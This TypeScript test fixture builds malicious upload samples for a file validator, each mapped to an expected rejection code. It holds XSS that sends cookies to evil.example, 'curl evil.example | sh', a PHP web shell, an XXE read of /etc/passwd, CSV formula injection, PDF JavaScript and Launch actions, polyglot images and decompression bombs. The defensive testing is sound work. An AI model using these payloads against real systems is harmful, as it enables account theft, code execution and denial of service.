import sharp from 'sharp';
import { chunk, pdf, picture, stream, withChunk, withComment, zip } from './pieces.ts';

/** A file that must not be kept, and the code of its error. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly accept: 'document' | 'image' | 'picture' | 'rows';
  readonly bytes: Buffer;
  readonly code: string;
}

const SCRIPT = '<script>fetch("//evil.example?" + document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;

/** How files of other kinds begin. */
const OTHERS: Readonly<Record<string, string | number[]>> = {
  'a page': `<!doctype html><body>${SCRIPT}`,
  'a drawing with a script': SVG,
  'a script': 'fetch("//evil.example")',
  'a script of a server': '<?php system($_GET["c"]); ?>',
  'a script of a shell': '#!/bin/sh\ncurl evil.example | sh\n',
  'a program of Windows': [0x4d, 0x5a, 0x90, 0, 3, 0],
  'a program of Linux': [0x7f, 0x45, 0x4c, 0x46, 2, 1],
  'a program of Java': [0xca, 0xfe, 0xba, 0xbe, 0, 0],
  'a module': [0, 0x61, 0x73, 0x6d, 1, 0],
  'an animation': 'GIF89a/*',
  'an image of the web': 'RIFF\0\0\0\0WEBPVP8 ',
  'an icon': [0, 0, 1, 0, 1, 0],
  'an image of a phone': '\0\0\0\x18ftypheic',
  'a scan': [0x49, 0x49, 0x2a, 0],
  'a drawing of a printer': '%!PS-Adobe-3.0 EPSF-3.0',
  'a text with formats': '{\\rtf1{\\object\\objdata}}',
  'an old letter': [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
  'data with entities': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
};

/** A PNG whose header says another size. */
function claiming(png: Buffer, width: number, height: number): Buffer {
  const header = Buffer.from(png.subarray(16, 29));
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', header), png.subarray(33)]);
}

export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const [png, jpeg] = await Promise.all([picture().png().toBuffer(), picture().jpeg().toBuffer()]);
  const bomb = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#fff' } })
    .png({ palette: true, compressionLevel: 9 })
    .toBuffer();
  const after = (file: Buffer, more: Buffer | string) => Buffer.concat([file, Buffer.from(more as string)]);
  const archive = zip('run.js', 'alert(1)');
  const made = (
    code: string,
    files: Readonly<Record<string, readonly [string, Buffer, HostileFile['accept']?]>>,
  ): HostileFile[] =>
    Object.entries(files).map(([what, [name, bytes, accept = 'document']]) => ({ what, name, accept, bytes, code }));
  return [
    ...made('UPLOAD_FILE_ERROR_EMPTY', {
      'nothing, as a picture': ['a.png', Buffer.alloc(0)],
      'nothing, as a document': ['a.pdf', Buffer.alloc(0)],
      'nothing, as rows': ['a.csv', Buffer.alloc(0), 'rows'],
    }),
    ...made(
      'UPLOAD_FILE_ERROR_UNSUPPORTED_MIME',
      Object.fromEntries(
        Object.entries(OTHERS).map(([what, start]) => [
          `${what}, as a picture`,
          ['ktp.png', Buffer.from(start as string)],
        ]),
      ),
    ),
    ...made('UPLOAD_FILE_ERROR_UNSUPPORTED_MIME', {
      'an archive, as a document': ['ktp.pdf', archive],
      'a page before a document': ['ktp.pdf', after(Buffer.from('<html>'), pdf())],
      'a page, as rows': ['rows.csv', Buffer.from(`<html>${SCRIPT}`), 'rows'],
      'a picture, as rows': ['rows.csv', png, 'rows'],
      'a program, as rows': ['rows.csv', Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0]), 'rows'],
    }),
    ...made('UNSUPPORTED_IMAGE_FILE_TYPE_ERROR', {
      'a drawing, as a logo': ['logo.svg', Buffer.from(SVG), 'image'],
      'an animation, as a logo': ['logo.gif', Buffer.from('GIF89a'), 'image'],
      'a document, as a product': ['product.png', pdf(), 'picture'],
    }),
    ...made('UPLOAD_FILE_ERROR_WRONG_EXTENSION', {
      'a picture, named as a program': ['ktp.png.exe', png],
      'a picture, named as a script': ['ktp.php', jpeg],
      'a picture, named as a page': ['ktp.html', png],
      'a picture, named as a drawing': ['ktp.svg', png],
      'a document, named as a picture': ['ktp.png', pdf()],
      'a picture, named as a document': ['ktp.pdf', jpeg],
      'a photo, named as a PNG': ['ktp.png', jpeg],
      'rows, named as a program': ['rows.bat', Buffer.from('a,b\n1,2\n'), 'rows'],
    }),
    ...made('UPLOAD_FILE_ERROR_ACTIVE_CONTENT', {
      'a picture and an archive': ['a.png', after(png, archive)],
      'a photo and an archive': ['a.jpg', after(jpeg, archive)],
      'a picture and a page': ['a.png', after(png, `<html>${SCRIPT}`)],
      'a photo and a program': ['a.jpg', after(jpeg, 'MZ\x90\0\x03')],
      'a photo and another archive': ['a.jpg', after(jpeg, 'Rar!\x1a\x07\x01\0')],
      'a picture with a script of a server': ['a.png', withChunk(png, 'tEXt', 'Comment\0<?php system("id"); ?>')],
      'a picture with a link that runs': ['a.png', withChunk(png, 'tEXt', 'URL\0javascript:alert(1)')],
      'a picture with an archive in it': ['a.png', withChunk(png, 'prVt', archive)],
      'a photo with a script of a server': ['a.jpg', withComment(jpeg, '<?php system("id"); ?>')],
      'a photo with a script': ['a.jpg', withComment(jpeg, SCRIPT, 0xe1)],
      'a photo that is a script as well': ['a.jpg', withComment(jpeg, '*/=alert(1);/*')],
      'a photo that is a document as well': ['a.jpg', withComment(jpeg, pdf())],
      'a document that runs when it is opened': [
        'a.pdf',
        pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
      ],
      'a document with scripts by name': ['a.pdf', pdf('/Names << /JavaScript 4 0 R >>', ['<< >>'])],
      'a document with an escaped name': ['a.pdf', pdf('/OpenAction << /S /J#61va#53cript /#4aS 4 0 R >>', ['(x)'])],
      'a document with a hidden script': [
        'a.pdf',
        pdf('', [stream('5 0 << /S /JavaScript /JS (x) >>', '/Type /ObjStm /N 1 /First 4')]),
      ],
      'a document that starts a program': ['a.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
      'a document with a file in it': ['a.pdf', pdf('', [stream('MZ', '/Type /EmbeddedFile')])],
      'a document with a film': ['a.pdf', pdf('', ['<< /Subtype /RichMedia >>'])],
      'a document with a form of scripts': ['a.pdf', pdf('/AcroForm << /XFA 4 0 R >>', ['<< >>'])],
      'a document that sends': ['a.pdf', pdf('/OpenAction << /S /SubmitForm /F (//evil.example) >>')],
      'a document and an archive': ['a.pdf', after(pdf(), archive)],
      'a document and a page': ['a.pdf', after(pdf(), SCRIPT)],
      'a document and much more': ['a.pdf', after(pdf(), 'x'.repeat(4000))],
      'rows that start a program': ['a.csv', Buffer.from("name,amount\n=cmd|'/c calc'!A1,1\n"), 'rows'],
      'rows with a script': ['a.csv', Buffer.from(`name,amount\n${SCRIPT},1\n`), 'rows'],
    }),
    ...made('UPLOAD_FILE_ERROR_PROTECTED', {
      'a document with a password': [
        'a.pdf',
        Buffer.from(
          pdf('', ['<< /Filter /Standard >>']).toString('latin1').replace('/Root 1', '/Encrypt 4 0 R /Root 1'),
          'latin1',
        ),
      ],
    }),
    ...made('UPLOAD_FILE_ERROR_TOO_MANY_PIXELS', {
      'a picture of 81 million pixels in few bytes': ['a.png', bomb],
      'a picture that claims 900 million pixels': ['a.png', claiming(png, 30_000, 30_000)],
    }),
    ...made('UPLOAD_FILE_ERROR_DAMAGED', {
      'a document that unpacks to 100 MB': ['a.pdf', pdf('', [stream(Buffer.alloc(100_000_000))])],
      'half a picture': ['a.png', png.subarray(0, png.length / 2)],
      'half a photo': ['a.jpg', jpeg.subarray(0, jpeg.length / 2)],
      'the start of a picture': ['a.png', png.subarray(0, 8)],
      'a picture of a wrong size': ['a.png', claiming(png, 40, 3000)],
      'half a document': ['a.pdf', pdf().subarray(0, 80)],
    }),
    ...made('UPLOAD_FILE_ERROR_FILESIZE_TOO_LARGE', {
      'a document of more than 8 MB': ['a.pdf', after(pdf(), Buffer.alloc(8 * 1024 * 1024, 32))],
      'a logo of more than 1 MB': ['a.png', after(png, Buffer.alloc(1024 * 1024)), 'image'],
    }),
  ];
}
